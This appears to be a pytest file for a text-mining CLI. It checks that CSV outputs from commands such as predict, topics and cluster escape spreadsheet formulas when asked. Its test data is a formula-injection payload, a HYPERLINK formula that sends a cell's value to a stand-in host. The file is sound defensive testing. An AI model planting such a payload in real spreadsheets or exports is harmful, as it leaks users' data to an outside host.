"""Tables for spreadsheets: texts that are formulas are kept as they are, or escaped if asked."""

import csv

import polars as pl
import pytest
from sklearn.pipeline import make_pipeline
from tests.helpers.cli import assert_failed

import quire
from quire.feature_extraction.text import CountVectorizer
from quire.naive_bayes import MultinomialNB

EVIL = '=HYPERLINK("http://example.invalid/?"&A1)'


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    words = ["film plot great scene", "story cast dull scene", "film cast odd ending"]
    rows = [(f"{EVIL} {words[i % 3]} number{i % 5}", EVIL, -i) for i in range(12)]
    table = pl.DataFrame(rows, schema=["text", "note", "size"], orient="row")
    table.write_csv(folder / "corpus.csv")
    model = make_pipeline(CountVectorizer(), MultinomialNB())
    quire.save(model.fit([one[0] for one in rows], [EVIL, "-b"] * 6), folder / "model.quire")
    return folder


def fields(path):
    with path.open(encoding="utf-8", newline="") as file:
        return [field for row in csv.reader(file) for field in row]


def is_formula(field):
    try:
        float(field)
    except ValueError:
        return field.startswith(("=", "+", "-", "@"))
    return False


COMMANDS = {
    "predict": ("predict", "model.quire", "corpus.csv", "-o"),
    "topics": ("topics", "corpus.csv", "--text", "text", "--topics", 2, "--iterations", 5,
               "--documents-out"),
    "cluster": ("cluster", "corpus.csv", "--text", "text", "--clusters", 2, "--documents-out"),
    "map": ("map", "corpus.csv", "--text", "text", "--json", "--documents-out"),
    "neighbors": ("neighbors", "corpus.csv", EVIL, "--text", "text", "--out"),
}  # fmt: skip


@pytest.mark.parametrize("command", COMMANDS)
def test_formulas_are_escaped_where_asked(folder, run, monkeypatch, tmp_path, command):
    monkeypatch.chdir(folder)
    arguments = COMMANDS[command]
    code, _, err = run(*arguments, tmp_path / "plain.csv")
    assert code == 0, err
    plain = fields(tmp_path / "plain.csv")
    assert any(map(is_formula, plain))
    code, _, err = run(*arguments, tmp_path / "safe.csv", "--escape-formulas")
    assert code == 0, err
    safe = fields(tmp_path / "safe.csv")
    assert safe == [f"'{field}" if is_formula(field) else field for field in plain]
    outcome = run(*arguments, tmp_path / "x.ndjson", "--escape-formulas")
    assert_failed(outcome, "--escape-formulas", "is no CSV file", code=2)


def test_what_goes_to_standard_output_is_escaped_where_asked(folder, run):
    code, out, _ = run(
        "predict", folder / "model.quire", folder / "corpus.csv", "--escape-formulas"
    )
    assert code == 0
    frame = pl.read_csv(out.encode())
    assert set(frame["predicted"]) == {f"'{EVIL}", "'-b"}
    assert frame["size"].to_list() == [-i for i in range(12)]
